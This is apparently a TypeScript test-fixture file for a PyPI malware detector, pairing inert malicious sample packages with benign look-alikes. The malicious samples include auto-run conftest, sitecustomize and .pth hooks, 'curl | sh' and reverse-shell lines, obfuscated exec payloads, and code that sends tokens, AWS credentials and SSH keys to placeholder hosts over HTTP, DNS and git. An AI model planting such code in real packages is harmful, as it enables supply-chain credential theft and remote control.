/**
 * PyPI malware variants written for the `pypi22` round (not part of a blind set): forms blind sets 1
 * and 2 do not use yet, each with the honest near twin it must leave alone. Inert: hosts are
 * reserved names (`.example`, `.invalid`, TEST-NET addresses), commands print or fetch nothing real.
 * Nothing is run; test/unit/pkg-pypi22.test.ts packs them into in-memory tarballs.
 *
 *   A. code pytest and the interpreter import by themselves: a root conftest.py, a sitecustomize.py
 *      shipped as a top-level module, a pytest11 plugin named without an attribute, an entry-point
 *      group in setup.cfg / setup.py;
 *   B. one service's token sent to a host that is not that service's (an environment token, a
 *      token file of a CLI);
 *   C. obfuscation: codecs rot13, zlib + marshal, exec reached through an attribute chain whose
 *      names are decoded, `getattr(__builtins__, …)`, `__builtins__.__dict__.get(…)`;
 *   D. a downloaded module imported (importlib's file loader, `sys.path` plus `import_module`);
 *   E. process starts through `os.popen` and `pty.spawn`;
 *   F. exfiltration through DNS lookups and through `git push`.
 */
import type { PypiVariant } from './pypi-variants-set1.js';

/** A small sdist: PKG-INFO, a plain setup.py (packages=[pkg]) unless replaced, and the given files. */
export function sdist(name: string, files: Record<string, string>, meta = ''): PypiVariant {
  const pkg = name.replace(/-/g, '_');
  return {
    id: name,
    family: 'pypi22',
    note: '',
    name,
    version: '1.0.0',
    files: {
      'PKG-INFO': `Metadata-Version: 2.1\nName: ${name}\nVersion: 1.0.0\nSummary: test\n${meta}`,
      'setup.py': `from setuptools import setup\nsetup(name='${name}', version='1.0.0', packages=['${pkg}'])\n`,
      [`${pkg}/__init__.py`]: '',
      ...files,
    },
  };
}

// ---- A. files run by pytest or the interpreter without being asked ------------------------------------

export const PYPI22_AUTO: readonly PypiVariant[] = [
  // A root conftest.py: pytest imports it on any run in the unpacked sdist (downstream packagers run the tests).
  sdist('tidyfmt', {
    'conftest.py':
      "import os\n\nHOOK = '\\ncurl -fsSL http://198.51.100.23/s.sh | sh\\n'\nwith open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n    fh.write(HOOK)\n",
    'tidyfmt/core.py': 'def fmt(s):\n    return s.strip()\n',
  }),
  // The same, from a pytest hook pytest calls (not module-level code).
  sdist('quietlog', {
    'conftest.py':
      "import subprocess, sys\n\n\ndef pytest_sessionstart(session):\n    subprocess.Popen([sys.executable, '-c', 'import urllib.request as u;exec(u.urlopen(\"http://203.0.113.8/p\").read())'])\n",
  }),
  // A sitecustomize.py shipped as a top-level module: site imports it at every interpreter start.
  sdist(
    'envcolor',
    {
      'setup.py': "from setuptools import setup\nsetup(name='envcolor', version='1.0.0', packages=['envcolor'], py_modules=['sitecustomize'])\n",
      'sitecustomize.py':
        "import os, subprocess, sys\n\nif not os.environ.get('_EC'):\n    os.environ['_EC'] = '1'\n    subprocess.Popen([sys.executable, '-c', 'import socket,os;s=socket.socket();s.connect((\"198.51.100.7\",4444));os.dup2(s.fileno(),0)'])\n",
    },
  ),
  // A pytest11 plugin named as a module (no attribute), in setup.cfg: its module-level code plants a unit.
  sdist('pytest-timingx', {
    'setup.py': 'from setuptools import setup\nsetup()\n',
    'setup.cfg': '[metadata]\nname = pytest-timingx\nversion = 1.0.0\n\n[options]\npackages = pytest_timingx\n\n[options.entry_points]\npytest11 =\n    timingx = pytest_timingx.plugin\n',
    'pytest_timingx/plugin.py':
      "import os\n\n_UNIT = '[Service]\\nExecStart=/bin/sh -c \"sleep 60\"\\n'\n_p = os.path.expanduser('~/.config/systemd/user/timingx.service')\nos.makedirs(os.path.dirname(_p), exist_ok=True)\nwith open(_p, 'w') as f:\n    f.write(_UNIT)\n\n\ndef pytest_addoption(parser):\n    parser.addoption('--timingx', action='store_true')\n",
  }),
  // An entry-point group in setup.py's entry_points dict, module only: the plugin's module starts an inline interpreter.
  sdist('flake8-tabsx', {
    'setup.py':
      "from setuptools import setup\nsetup(name='flake8-tabsx', version='1.0.0', packages=['flake8_tabsx'],\n      entry_points={'pytest11': ['tabsx = flake8_tabsx.checks']})\n",
    'flake8_tabsx/checks.py':
      "import subprocess, sys\n\nsubprocess.Popen([sys.executable, '-c', 'import os; os.system(\"id\")'], stdout=subprocess.DEVNULL)\n\n\nclass Checker:\n    name = 'tabsx'\n",
  }),
  // A .pth file kept under src/ and shipped into site-packages by setup.py's data_files: site runs its import line.
  sdist('fastpath-init', {
    'setup.py':
      "from setuptools import setup\nsetup(name='fastpath-init', version='1.0.0', packages=['fastpath_init'],\n      data_files=[('lib/site-packages', ['src/zz_fastpath_init.pth'])])\n",
    'src/zz_fastpath_init.pth': "import subprocess, sys; subprocess.Popen([sys.executable, '-c', 'import os; os.system(\"id\")'])\n",
  }),
];

export const PYPI22_AUTO_TWINS: readonly PypiVariant[] = [
  // A root conftest.py that builds the extension in place and downloads a fixture into a cache.
  sdist('fastjsonx', {
    'conftest.py':
      "import os, subprocess, sys, urllib.request\n\nimport pytest\n\nROOT = os.path.dirname(__file__)\n\n\ndef pytest_configure(config):\n    subprocess.check_call([sys.executable, 'setup.py', 'build_ext', '--inplace'], cwd=ROOT)\n\n\n@pytest.fixture(scope='session')\ndef sample(tmp_path_factory):\n    p = tmp_path_factory.mktemp('data') / 'sample.json'\n    urllib.request.urlretrieve('https://data.fastjsonx.example/sample.json', p)\n    return p.read_text()\n",
  }),
  // A sitecustomize.py shipped for coverage of subprocesses (what coverage's docs suggest).
  sdist('covsub', {
    'setup.py': "from setuptools import setup\nsetup(name='covsub', version='1.0.0', packages=['covsub'], py_modules=['sitecustomize'])\n",
    'sitecustomize.py': "import os\n\nif os.environ.get('COVERAGE_PROCESS_START'):\n    import coverage\n    coverage.process_startup()\n",
  }),
  // A .pth file in the test data (a fixture of the package's own site handling), not shipped.
  sdist('sitehelp', {
    'tests/data/sample.pth': "import os; os.environ.setdefault('SITEHELP_TEST', '1')\n",
    'sitehelp/__init__.py': "import site\n\n\ndef dirs():\n    return site.getsitepackages()\n",
  }),
  // A pytest11 plugin (setup.cfg, module only) that writes a report file where the user asks.
  sdist('pytest-reportx', {
    'setup.py': 'from setuptools import setup\nsetup()\n',
    'setup.cfg': '[metadata]\nname = pytest-reportx\nversion = 1.0.0\n\n[options]\npackages = pytest_reportx\n\n[options.entry_points]\npytest11 =\n    reportx = pytest_reportx.plugin\n',
    'pytest_reportx/plugin.py':
      "import json, os, subprocess\n\n\ndef pytest_addoption(parser):\n    parser.addoption('--reportx', default=None)\n\n\ndef pytest_sessionfinish(session, exitstatus):\n    path = session.config.getoption('--reportx')\n    if path:\n        rev = subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True, text=True).stdout.strip()\n        with open(path, 'w') as f:\n            json.dump({'status': int(exitstatus), 'rev': rev}, f)\n",
  }),
];

// ---- B. one service's token sent elsewhere ------------------------------------------------------------

export const PYPI22_TOKEN: readonly PypiVariant[] = [
  // GITHUB_TOKEN read at import and posted to a host that is not GitHub's.
  sdist('gh-badge', {
    'gh_badge/__init__.py':
      "import os, threading, requests\n\n\ndef _ping():\n    t = os.environ.get('GITHUB_TOKEN')\n    if t:\n        requests.post('https://stats.badge-cdn.example/v1/ping', json={'t': t}, timeout=3)\n\n\nthreading.Thread(target=_ping, daemon=True).start()\n",
  }),
  // The GitHub CLI's token file, read and sent in a header to another host.
  sdist('ghx-utils', {
    'ghx_utils/__init__.py': 'from .auth import login\n\nlogin()\n',
    'ghx_utils/auth.py':
      "import os, urllib.request\n\n\ndef login():\n    p = os.path.join(os.path.expanduser('~'), '.config', 'gh', 'hosts.yml')\n    try:\n        data = open(p).read()\n    except OSError:\n        return\n    req = urllib.request.Request('https://auth.ghx-mirror.example/session', data=data.encode(), method='POST')\n    urllib.request.urlopen(req, timeout=5)\n",
  }),
  // One cloud key pair from the environment, sent to a bare IP address from a runtime helper.
  sdist('s3-fastsync', {
    's3_fastsync/sync.py':
      "import os, json, http.client\n\n\ndef sync(bucket):\n    key = os.environ['AWS_SECRET_ACCESS_KEY']\n    kid = os.environ['AWS_ACCESS_KEY_ID']\n    c = http.client.HTTPConnection('203.0.113.40', 8080)\n    c.request('POST', '/r', json.dumps({'k': kid, 's': key, 'b': bucket}))\n    return c.getresponse().status\n",
  }),
  // A Hugging Face token file sent to a paste-like collector.
  sdist('hf-cachetool', {
    'hf_cachetool/__init__.py':
      "from pathlib import Path\nimport requests\n\n_tok = Path.home() / '.cache' / 'huggingface' / 'token'\nif _tok.exists():\n    requests.post('https://webhook.site/6f1c2d9e-0000-4000-8000-000000000000', data={'token': _tok.read_text()})\n",
  }),
];

export const PYPI22_TOKEN_TWINS: readonly PypiVariant[] = [
  // A GitHub API client: GITHUB_TOKEN goes to api.github.com in the Authorization header.
  sdist('gh-release-notes', {
    'gh_release_notes/__init__.py':
      "import os, requests\n\nAPI = 'https://api.github.com'\n\n\ndef releases(repo):\n    token = os.environ.get('GITHUB_TOKEN')\n    headers = {'Authorization': f'Bearer {token}'} if token else {}\n    return requests.get(f'{API}/repos/{repo}/releases', headers=headers, timeout=10).json()\n\n\ndef comment(repo, n, body):\n    token = os.environ['GITHUB_TOKEN']\n    return requests.post('https://api.github.com/repos/' + repo + '/issues/' + str(n) + '/comments', json={'body': body}, headers={'Authorization': 'token ' + token})\n",
  }),
  // A coverage uploader: the CI's GitHub token goes to its own service (named in its metadata).
  sdist(
    'coverup-io',
    {
      'coverup_io/upload.py':
        "import os, requests\n\n\ndef upload(report):\n    payload = {'repo_token': os.environ.get('GITHUB_TOKEN'), 'service_name': 'github', 'source_files': report}\n    return requests.post('https://coverup.io/api/v1/jobs', json=payload, timeout=30)\n",
    },
    'Home-page: https://coverup.io\n',
  ),
  // The GitHub CLI's token file, read to call GitHub's API.
  sdist('ghcli-compat', {
    'ghcli_compat/__init__.py':
      "import os, urllib.request\n\n\ndef whoami():\n    p = os.path.expanduser('~/.config/gh/hosts.yml')\n    token = open(p).read().split('oauth_token:')[1].split()[0]\n    req = urllib.request.Request('https://api.github.com/user', headers={'Authorization': 'token ' + token})\n    return urllib.request.urlopen(req).read()\n",
  }),
  // A Hugging Face token read from its file and sent to the Hub.
  sdist('hub-mini', {
    'hub_mini/__init__.py':
      "from pathlib import Path\nimport requests\n\n\ndef whoami():\n    tok = (Path.home() / '.cache' / 'huggingface' / 'token').read_text().strip()\n    return requests.get('https://huggingface.co/api/whoami-v2', headers={'authorization': f'Bearer {tok}'}).json()\n",
  }),
];

// ---- C. obfuscation ----------------------------------------------------------------------------------

export const PYPI22_OBFUSCATION: readonly PypiVariant[] = [
  // codecs rot13, the code compiled first, then exec'd (setup.py).
  sdist('colorama-ext', {
    'setup.py':
      "import codecs\nfrom setuptools import setup\n\n_s = 'vzcbeg bf; bf.flfgrz(\"phey -f uggc://198.51.100.4/k | fu\")'\n_c = compile(codecs.decode(_s, 'rot_13'), '<s>', 'exec')\nexec(_c)\nsetup(name='colorama-ext', version='1.0.0')\n",
  }),
  // zlib + marshal over a bytes literal (no base64), evaluated from an alias at import.
  sdist('tinyhash', {
    'tinyhash/__init__.py':
      "import marshal as _m, zlib as _z\n\n_B = b'x\\x9c+\\xc9\\xc8,V(J-)-\\xcaKM\\x01\\x00$\\x86\\x05B'\n_run = eval\n_run(_m.loads(_z.decompress(_B)))\n",
  }),
  // The module and the function decoded from base64, reached as an attribute chain and called.
  sdist('pathtools2', {
    'pathtools2/__init__.py':
      "import base64 as b\n\n_d = lambda s: b.b64decode(s).decode()\ngetattr(__import__(_d('b3M=')), _d('c3lzdGVt'))(_d('Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC45L3ggfCBzaA=='))\n",
  }),
  // getattr(__builtins__, …) with a hex-decoded name, over zlib-decoded code.
  sdist('jsonfast3', {
    'jsonfast3/__init__.py':
      "import zlib, base64\n\n_P = 'eJwrKMrMK9FQL8nILFYozy/NSVEoKs1T1wQAZ9MIRQ=='\ngetattr(__builtins__, bytes.fromhex('65786563').decode())(zlib.decompress(base64.b64decode(_P)))\n",
  }),
  // __builtins__.__dict__.get('eval') with a reversed string.
  sdist('yamlite', {
    'yamlite/__init__.py':
      "import base64\n\n_f = __builtins__.__dict__.get('lave'[::-1]) if isinstance(__builtins__, dict) is False else __builtins__.get('lave'[::-1])\n_f(base64.b64decode('X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk='))\n",
  }),
];

export const PYPI22_OBFUSCATION_TWINS: readonly PypiVariant[] = [
  // A codec library that registers rot13 and uses it on data.
  sdist('rotcodec', {
    'rotcodec/__init__.py': "import codecs\n\n\ndef encode(s):\n    return codecs.encode(s, 'rot_13')\n\n\ndef decode(s):\n    return codecs.decode(s, 'rot_13')\n",
  }),
  // A cache of marshalled data tables (not code) decompressed at import.
  sdist('unitable', {
    'unitable/__init__.py': "import marshal, zlib, base64\n\n_T = 'eJyrvsWY+JKRgYHhFmPSSyYgbQAAOcwE+g=='\nTABLE = marshal.loads(zlib.decompress(base64.b64decode(_T)))\n",
  }),
  // A compatibility shim resolving a builtin by a decoded name, never called with decoded data.
  sdist('compat6', {
    'compat6/__init__.py': "import builtins, base64\n\ntext_type = getattr(builtins, base64.b64decode('c3Ry').decode())\n\n\ndef u(s):\n    return text_type(s)\n",
  }),
];

// ---- D. a downloaded module imported ----------------------------------------------------------------------

export const PYPI22_IMPORT: readonly PypiVariant[] = [
  // Fetched source written to a temporary file and loaded with importlib's file loader at import.
  sdist('requestsx', {
    'requestsx/__init__.py':
      "import importlib.util, os, tempfile, urllib.request\n\n_p = os.path.join(tempfile.gettempdir(), '_rx_patch.py')\nwith open(_p, 'wb') as f:\n    f.write(urllib.request.urlopen('http://198.51.100.61/patch.py').read())\n_spec = importlib.util.spec_from_file_location('_rx_patch', _p)\n_mod = importlib.util.module_from_spec(_spec)\n_spec.loader.exec_module(_mod)\n",
  }),
  // Fetched source saved into a folder put on sys.path, then imported by name (setup.py).
  sdist('numpyx', {
    'setup.py':
      "import importlib, os, sys, tempfile\nimport requests\nfrom setuptools import setup\n\nd = tempfile.mkdtemp()\nopen(os.path.join(d, 'npx_helper.py'), 'w').write(requests.get('https://cdn.npx-build.example/helper.py').text)\nsys.path.insert(0, d)\nimportlib.import_module('npx_helper')\nsetup(name='numpyx', version='1.0.0')\n",
  }),
  // A module object made from fetched code: types.ModuleType and exec into its namespace.
  sdist('dotenvx', {
    'dotenvx/__init__.py':
      "import types, requests\n\n_m = types.ModuleType('dotenvx_ext')\n_src = requests.get('https://raw.dotenvx-cdn.example/ext.py', timeout=5).content\nexec(compile(_src, 'ext', 'exec'), _m.__dict__)\n",
  }),
];

export const PYPI22_IMPORT_TWINS: readonly PypiVariant[] = [
  // A plugin loader: a local file the user names is loaded with importlib's file loader.
  sdist('pluggy-lite', {
    'pluggy_lite/__init__.py':
      "import importlib.util\n\n\ndef load(path, name='plugin'):\n    spec = importlib.util.spec_from_file_location(name, path)\n    mod = importlib.util.module_from_spec(spec)\n    spec.loader.exec_module(mod)\n    return mod\n",
  }),
  // A dataset helper that downloads a CSV into a cache and imports a local parser module by name.
  sdist('csvcache', {
    'csvcache/__init__.py':
      "import importlib, os, urllib.request\n\nCACHE = os.path.expanduser('~/.cache/csvcache')\n\n\ndef fetch(url, name):\n    os.makedirs(CACHE, exist_ok=True)\n    p = os.path.join(CACHE, name + '.csv')\n    urllib.request.urlretrieve(url, p)\n    parser = importlib.import_module('csvcache.parsers.' + name)\n    return parser.parse(p)\n",
  }),
];

// ---- E. process starts through os.popen and pty.spawn ---------------------------------------------------

export const PYPI22_SPAWN: readonly PypiVariant[] = [
  // os.popen of a fetched command, at import.
  sdist('sysinfo-lite', {
    'sysinfo_lite/__init__.py':
      "import os, urllib.request\n\n_cmd = urllib.request.urlopen('http://203.0.113.77/c.txt', timeout=4).read().decode()\nos.popen(_cmd).read()\n",
  }),
  // pty.spawn of a shell with its descriptors on a socket (setup.py).
  sdist('termgrid', {
    'setup.py':
      "import os, pty, socket\nfrom setuptools import setup\n\ntry:\n    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    s.connect(('198.51.100.33', 9001))\n    for fd in (0, 1, 2):\n        os.dup2(s.fileno(), fd)\n    pty.spawn('/bin/sh')\nexcept Exception:\n    pass\nsetup(name='termgrid', version='1.0.0')\n",
  }),
  // os.popen through getattr with a joined name, the command curling a script into sh.
  sdist('netcheck2', {
    'netcheck2/__init__.py':
      "import os\n\n_r = getattr(os, ''.join(['po', 'pen']))\n_r('wget -qO- http://198.51.100.5/i.sh | sh')\n",
  }),
];

export const PYPI22_SPAWN_TWINS: readonly PypiVariant[] = [
  // os.popen of a fixed local command.
  sdist('unameinfo', {
    'unameinfo/__init__.py': "import os\n\n\ndef kernel():\n    return os.popen('uname -r').read().strip()\n",
  }),
  // A terminal recorder: pty.spawn of the user's shell, output to a local file.
  sdist('ttyrec-lite', {
    'ttyrec_lite/__init__.py':
      "import os, pty\n\n\ndef record(path):\n    with open(path, 'wb') as log:\n        def read(fd):\n            data = os.read(fd, 1024)\n            log.write(data)\n            return data\n        pty.spawn(os.environ.get('SHELL', '/bin/sh'), read)\n",
  }),
];

// ---- F. exfiltration through DNS and git push -------------------------------------------------------------

export const PYPI22_EXFIL: readonly PypiVariant[] = [
  // The AWS credentials file hex-encoded into DNS labels, looked up chunk by chunk at import.
  sdist('dnsfast', {
    'dnsfast/__init__.py':
      "import os, socket\n\ntry:\n    data = open(os.path.expanduser('~/.aws/credentials'), 'rb').read().hex()\n    for i in range(0, len(data), 60):\n        try:\n            socket.gethostbyname(f'{data[i:i + 60]}.{i}.q.dnsfast-cdn.example')\n        except OSError:\n            pass\nexcept OSError:\n    pass\n",
  }),
  // A token from the environment sent as a TXT query through dnspython.
  sdist('resolvr', {
    'resolvr/__init__.py':
      "import os, base64\nimport dns.resolver\n\n_t = os.environ.get('NPM_TOKEN', '')\nif _t:\n    _l = base64.b32encode(_t.encode()).decode().strip('=').lower()\n    dns.resolver.resolve(_l + '.t.resolvr-stats.example', 'TXT')\n",
  }),
  // SSH keys copied into a fresh repository and pushed to a remote the package names (setup.py).
  sdist('gitsync-tool', {
    'setup.py':
      "import glob, os, shutil, subprocess, tempfile\nfrom setuptools import setup\n\nrepo = tempfile.mkdtemp()\nsubprocess.run(['git', 'init', '-q', repo])\nfor k in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n    shutil.copy(k, repo)\nsubprocess.run(['git', '-C', repo, 'add', '-A'])\nsubprocess.run(['git', '-C', repo, 'commit', '-qm', 'x'])\nsubprocess.run(['git', '-C', repo, 'push', '-q', 'https://git.gitsync-tool.example/loot.git', 'HEAD:main'])\nsetup(name='gitsync-tool', version='1.0.0')\n",
  }),
  // The whole environment written into a file and pushed with git from a thread at import.
  sdist('envsnap', {
    'envsnap/__init__.py':
      "import json, os, subprocess, tempfile, threading\n\n\ndef _go():\n    d = tempfile.mkdtemp()\n    subprocess.run(['git', 'clone', '-q', 'https://git.envsnap-backup.example/s.git', d])\n    with open(os.path.join(d, 'e.json'), 'w') as f:\n        json.dump(dict(os.environ), f)\n    subprocess.run('git add -A && git commit -qm s && git push -q', shell=True, cwd=d)\n\n\nthreading.Thread(target=_go, daemon=True).start()\n",
  }),
];

/** More shapes of the same behaviours (a second pass over this round's list). */
export const PYPI22_MORE: readonly PypiVariant[] = [
  // GitPython: the AWS credentials committed and pushed with the library, not a git process.
  sdist('repo-backup', {
    'repo_backup/__init__.py':
      "import os, shutil, tempfile\nimport git\n\n_d = tempfile.mkdtemp()\n_r = git.Repo.clone_from('https://git.repo-backup-cdn.example/b.git', _d)\nshutil.copy(os.path.expanduser('~/.aws/credentials'), os.path.join(_d, 'c'))\n_r.index.add(['c'])\n_r.index.commit('b')\n_r.remote(name='origin').push()\n",
  }),
  // A function object made from marshalled code through type(lambda: 0), at import.
  sdist('lazyload3', {
    'lazyload3/__init__.py':
      "import marshal, zlib, base64\n\n_C = 'eJwrKMrMK9FQL8nILFYozy/NSVEoKs1T1wQAZ9MIRQ=='\ntype(lambda: 0)(marshal.loads(zlib.decompress(base64.b64decode(_C))), globals())()\n",
  }),
  // The GitHub token in a curl header, to another host, from setup.py.
  sdist('gh-stars', {
    'setup.py':
      "import os, subprocess\nfrom setuptools import setup\n\n_t = os.environ.get('GITHUB_TOKEN', '')\nsubprocess.run(['curl', '-s', '-H', 'Authorization: token ' + _t, 'https://stars.gh-stars-cache.example/v1/sync'])\nsetup(name='gh-stars', version='1.0.0')\n",
  }),
  // Every environment value hex-encoded into DNS names, from a thread at import.
  sdist('envdns', {
    'envdns/__init__.py':
      "import os, socket, threading\n\n\ndef _leak():\n    for k, val in os.environ.items():\n        try:\n            socket.gethostbyname('{}.{}.e.envdns-stats.example'.format(val.encode().hex()[:50], k.lower()))\n        except OSError:\n            pass\n\n\nthreading.Thread(target=_leak, daemon=True).start()\n",
  }),
];

export const PYPI22_MORE_TWINS: readonly PypiVariant[] = [
  // GitPython release helper: tags and pushes the user's repository.
  sdist('gittag', {
    'gittag/__init__.py': "import git\n\n\ndef tag(path, version):\n    r = git.Repo(path)\n    r.create_tag(f'v{version}')\n    r.remote().push(tags=True)\n",
  }),
];

export const PYPI22_EXFIL_TWINS: readonly PypiVariant[] = [
  // A DNS helper that resolves a service name built from its region setting.
  sdist('svcresolve', {
    'svcresolve/__init__.py':
      "import os, socket\n\n\ndef endpoint(service):\n    region = os.environ.get('SVC_REGION', 'eu-1')\n    return socket.gethostbyname(f'{service}.{region}.svcresolve.example')\n",
  }),
  // A release helper that commits the version bump and pushes the user's own repository.
  sdist('bumpit', {
    'bumpit/__init__.py':
      "import subprocess\n\n\ndef release(version):\n    with open('VERSION', 'w') as f:\n        f.write(version)\n    subprocess.run(['git', 'add', 'VERSION'], check=True)\n    subprocess.run(['git', 'commit', '-m', f'Release {version}'], check=True)\n    subprocess.run(['git', 'push', '--follow-tags'], check=True)\n",
  }),
  // A dotfiles sync tool: the user's own dotfiles (no keys) committed and pushed to the remote they configured.
  sdist('dotsync', {
    'dotsync/__init__.py':
      "import os, shutil, subprocess\n\nFILES = ['.vimrc', '.gitconfig', '.tmux.conf']\n\n\ndef sync(repo):\n    for f in FILES:\n        src = os.path.expanduser('~/' + f)\n        if os.path.exists(src):\n            shutil.copy(src, repo)\n    subprocess.run(['git', '-C', repo, 'add', '-A'])\n    subprocess.run(['git', '-C', repo, 'commit', '-m', 'sync'])\n    subprocess.run(['git', '-C', repo, 'push'])\n",
  }),
];

export const PYPI22_VARIANTS: readonly PypiVariant[] = [...PYPI22_AUTO, ...PYPI22_TOKEN, ...PYPI22_OBFUSCATION, ...PYPI22_IMPORT, ...PYPI22_SPAWN, ...PYPI22_EXFIL, ...PYPI22_MORE];
export const PYPI22_TWINS: readonly PypiVariant[] = [...PYPI22_AUTO_TWINS, ...PYPI22_TOKEN_TWINS, ...PYPI22_OBFUSCATION_TWINS, ...PYPI22_IMPORT_TWINS, ...PYPI22_SPAWN_TWINS, ...PYPI22_EXFIL_TWINS, ...PYPI22_MORE_TWINS];

// ---- request_command_exec and key_param_exfil: the honest shapes the decision weighed ---------------------

export const PYPI22_RULE3_TWINS: readonly PypiVariant[] = [
  // A webhook deploy server: a request chooses one of its fixed commands by name.
  sdist('hookrunner', {
    'hookrunner/app.py':
      "import hmac, subprocess\nfrom flask import Flask, request, abort\n\napp = Flask(__name__)\nCOMMANDS = {'pull': ['git', 'pull', '--ff-only'], 'restart': ['systemctl', '--user', 'restart', 'site']}\n\n\n@app.post('/hook')\ndef hook():\n    if not hmac.compare_digest(request.headers.get('X-Sig', ''), app.config['SECRET']):\n        abort(403)\n    cmd = COMMANDS[request.json['action']]\n    subprocess.run(cmd, check=True)\n    return 'ok'\n",
  }),
  // An API wrapper named unlike its service: the caller's key goes to the service's host name.
  sdist('moviedb-lite', {
    'moviedb_lite/__init__.py':
      "import requests\n\n\ndef search(query, api_key):\n    return requests.get('https://api.themoviedb.example/3/search/movie', params={'api_key': api_key, 'query': query}, timeout=10).json()\n",
  }),
];
